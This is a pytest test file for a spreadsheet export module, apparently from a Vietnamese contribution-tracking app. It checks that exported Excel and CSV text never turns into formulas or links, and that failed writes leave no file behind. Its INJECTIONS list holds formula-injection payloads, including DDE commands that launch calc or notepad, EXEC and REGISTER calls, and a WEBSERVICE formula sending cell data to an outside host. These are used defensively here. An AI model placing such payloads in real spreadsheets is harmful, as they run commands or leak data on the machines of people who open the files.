"""Nothing that is written to Excel or CSV can become a formula, and a file is whole or not there."""

from __future__ import annotations

import csv
import re
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from db import Book
from db.errors import StorageError
from forms.spreadsheets import export_book, read_workbook, write_list
from forms.spreadsheets.formulas import excel_file, harmless

INJECTIONS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://a.vn","Bấm")', "=SUM(A1:A9)", "{=1+1}", "=@SUM(1)",

    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML("http://a.vn","//a")', '=WEBSERVICE("http://a.vn/?"&A1)', "=DDE(\"cmd\";\"/C\";\"1\")",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1", "＋1",
    "－1", "＠SUM(1)",
    "|cmd", "%0A=1+1", "=A1", "=TRUE()", "=NOW()", '="a"&"b"', "=-1", "=+1", "==1", "=(1)", "=[a.xlsx]S!A1",
    "='C:\\[a.xls]S'!A1", "=CALL(\"k\",\"b\",\"J\")", "=EXEC(\"calc\")", "=REGISTER(\"k\",\"b\",\"J\")",
    "=1;2", "=1,2", "-@SUM(1)", "@", "=", "http://a.vn", "internal:Sheet1!A1", "mailto:a@a.vn", "00123",
    "1e5",
]  # fmt: skip


def _xml(file: Path) -> str:
    with zipfile.ZipFile(file) as package:
        return "".join(package.read(name).decode() for name in package.namelist() if name.endswith(".xml"))


def _is_harmless(file: Path) -> bool:
    return re.search(r"<f[ >/]|<hyperlink|<definedName", _xml(file)) is None


def test_no_text_becomes_a_formula_or_a_link_in_excel(tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    write_list(file, INJECTIONS, [INJECTIONS, *([text] for text in INJECTIONS)])
    assert _is_harmless(file)


def test_no_text_of_a_book_becomes_a_formula(book: Book, tmp_path: Path) -> None:
    with book.writing("an") as w:
        for number, text in enumerate(INJECTIONS):
            shown = text.strip() or "x"
            model = w.add("model", {"code": f"{shown}{number}", "title": shown, "notes": shown})
            w.add("contribution", {"model": model, "contributor": shown, "kind": "in_kind", "item": shown})
    file = tmp_path / "a.xlsx"
    export_book(book, file)
    assert _is_harmless(file)
    rows = next(sheet for sheet in read_workbook(file).sheets if sheet.name == "Đóng góp").rows
    assert [str(row[2]).strip() for row in rows[1:]] == [text.strip() or "x" for text in INJECTIONS]


@given(st.text(max_size=20))
def test_a_text_for_csv_never_begins_like_a_formula(text: str) -> None:
    assert not harmless(text).lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert harmless(text).removeprefix("'") == text.removeprefix("'")


@pytest.mark.parametrize("text", ["Nguyễn Văn An", "5 - 7 hộ", "A=B", "", "'Ngõ"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_csv_is_as_excel_here_reads_it(tmp_path: Path) -> None:
    file = tmp_path / "a.csv"
    count = write_list(
        file, ["Tên", "Số", "Ngày"], [["=1+1", -1.5, date(2024, 5, 6)], ["Ngõ; xanh", 7, None]]
    )
    assert file.read_bytes().startswith(b"\xef\xbb\xbf")
    with file.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert (count, rows[1:]) == (2, [["'=1+1", "-1,5", "06/05/2024"], ["Ngõ; xanh", "7", ""]])


def _broken() -> Iterator[list[str]]:
    yield ["Một"]
    raise RuntimeError("the source failed")


@pytest.mark.parametrize("ending", [".xlsx", ".csv"])
def test_a_fault_leaves_nothing_behind(ending: str, tmp_path: Path) -> None:
    with pytest.raises(RuntimeError):
        write_list(tmp_path / f"a{ending}", ["Tên"], _broken())
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("ending", [".xlsx", ".csv"])
def test_a_place_that_is_not_there_is_told(ending: str, tmp_path: Path) -> None:
    with pytest.raises(StorageError):
        write_list(tmp_path / "none" / f"a{ending}", ["Tên"], [])


def test_a_disk_fault_while_writing_is_told(tmp_path: Path) -> None:
    with pytest.raises(StorageError), excel_file(tmp_path / "a.xlsx"):
        raise OSError(5, "the stick was pulled")
    assert list(tmp_path.iterdir()) == []


def test_the_same_list_is_the_same_content(tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    write_list(file, ["Tên"], [["An"]])
    before = _xml(file)
    write_list(file, ["Tên"], [["An"]])
    assert _xml(file) == before
